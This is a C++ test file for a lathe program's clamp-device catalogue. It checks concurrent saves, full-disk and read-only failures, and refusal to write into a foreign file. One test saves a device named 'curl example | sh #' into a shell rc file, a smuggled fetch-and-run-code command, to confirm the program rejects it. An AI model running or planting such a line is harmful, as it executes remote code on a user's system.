#include "run_vanzet.h"
#include "support/places.h"

namespace vanzet::test {
namespace {

namespace fs = std::filesystem;
using testing::HasSubstr;

/// Devices of the catalogue saved and deleted by scripts of the dialog.
class CatalogueSave : public CommandLineTest {
 protected:
  CatalogueSave() { MakeUpgradedProject(); }

  static std::string SaveChuck(const std::string& name) {
    return "select 36\nset 2123 \"" + name + "\"\nset 2033 90\nset 2034 22.5\npress 2152\n";
  }

  Outcome Play(const std::string& script, const std::string& before = "") {
    WriteBytes(folder / "script.txt", script + "close\n");
    return Vanzet("script lathe script.txt --transcript run.jsonl", before);
  }

  std::string Catalogue() const { return ReadBytes(catalogue); }

  const fs::path catalogue = folder / "lathe/clampdevice.cld";
};

TEST_F(CatalogueSave, OfANewDeviceIsThere) {
  const std::string before = Catalogue();
  const Outcome played = Play(SaveChuck("Chuck X"));
  EXPECT_EQ(played.status, 0) << played.err;
  EXPECT_THAT(Catalogue(), testing::StartsWith(before + "Chuck X\n1 0.000000 90.000000 22.500000 "));
}

TEST_F(CatalogueSave, ByFourProcessesAtOnceLosesNoDevice) {
  constexpr int kEach = 5;
  std::string all, wait = "true";
  for (const std::string who : {"a", "b", "c", "d"}) {
    fs::copy(folder / "lathe", folder / who, fs::copy_options::recursive);
    WriteBytes(folder / who / "bench.ini", "[project]\nCLAMP_DB_PATH = " + catalogue.string() + "\n");
    std::string script;
    for (int i = 0; i < kEach; ++i) script += SaveChuck(who + std::to_string(i));
    WriteBytes(folder / (who + ".txt"), script + "close\n");
    all += "'" VANZET_PROGRAM "' script " + who + " " + who + ".txt --transcript " + who + ".jsonl & " + who +
           "=$!; ";
    wait += " && wait $" + who;
  }
  WriteBytes(folder / "all.sh", all + wait);
  const Outcome played = Vanzet("--version && bash all.sh");
  EXPECT_EQ(played.status, 0) << played.err;
  for (const std::string who : {"a", "b", "c", "d"}) {
    for (int i = 0; i < kEach; ++i)
      EXPECT_THAT(Catalogue(), HasSubstr("\n" + who + std::to_string(i) + "\n"));
  }
}

TEST_F(CatalogueSave, OnAFullDiskFailsWithTheReason) {
  const std::string large = Catalogue() + "Jaw" + std::string(900, 'a') + "\n9 1\nJaw" +
                            std::string(900, 'b') + "\n9 1\nJaw" + std::string(900, 'c') + "\n9 1\nJaw" +
                            std::string(900, 'd') + "\n9 1\n";
  WriteBytes(catalogue, large);
  const Outcome played = Play(SaveChuck("Chuck X"), "trap '' XFSZ; ulimit -f 4;");
  EXPECT_EQ(played.status, 1);
  EXPECT_THAT(played.err, HasSubstr("clampdevice.cld: cannot be written: File too large\n"));
  EXPECT_EQ(Catalogue(), large);
}

TEST_F(CatalogueSave, ToAReadOnlyFileFails) {
  fs::permissions(catalogue, fs::perms(0444));
  const std::string before = Catalogue();
  const Outcome played = Play(SaveChuck("Chuck X"));
  EXPECT_EQ(played.status, 1);
  EXPECT_THAT(played.err, HasSubstr("clampdevice.cld: is read-only\n"));
  EXPECT_EQ(Catalogue(), before);
}

TEST_F(CatalogueSave, IsNoMatterOfAScriptThatOnlyReads) {
  fs::permissions(catalogue, fs::perms(0444));
  const Outcome played = Play("select 19\n");
  EXPECT_EQ(played.status, 0) << played.err;
  EXPECT_EQ(played.err, "");
  EXPECT_THAT(ReadBytes(folder / "run.jsonl"), HasSubstr("Could not find clampdevice file"));
}

TEST_F(CatalogueSave, OfADeletionThatCannotBeWrittenFails) {
  const std::string before = Catalogue();
  fs::permissions(catalogue, fs::perms(0444));
  const Outcome played = Play("answer no\nanswer yes\nselect 36\nset 2123 \"Chuck 160\"\npress 2127\n");
  EXPECT_EQ(played.status, 1);
  EXPECT_THAT(played.err, HasSubstr("clampdevice.cld: is read-only\n"));
  EXPECT_EQ(Catalogue(), before);
}

TEST_F(CatalogueSave, DoesNotWriteIntoATextOfAnotherProgram) {
  const std::string text = "# settings of the shell\nexport EDITOR=vi\numask 022\nset -o vi\n";
  WriteBytes(folder / "shell.rc", text);
  WriteBytes(folder / "lathe/bench.ini",
             "[project]\nCLAMP_DB_PATH = " + (folder / "shell.rc").string() + "\n");
  const Outcome played = Play(SaveChuck("curl example | sh #"));
  EXPECT_EQ(played.status, 1);
  EXPECT_THAT(played.err, HasSubstr("shell.rc:2: expected the values of a device"));
  EXPECT_EQ(ReadBytes(folder / "shell.rc"), text);
}

}  // namespace
}  // namespace vanzet::test
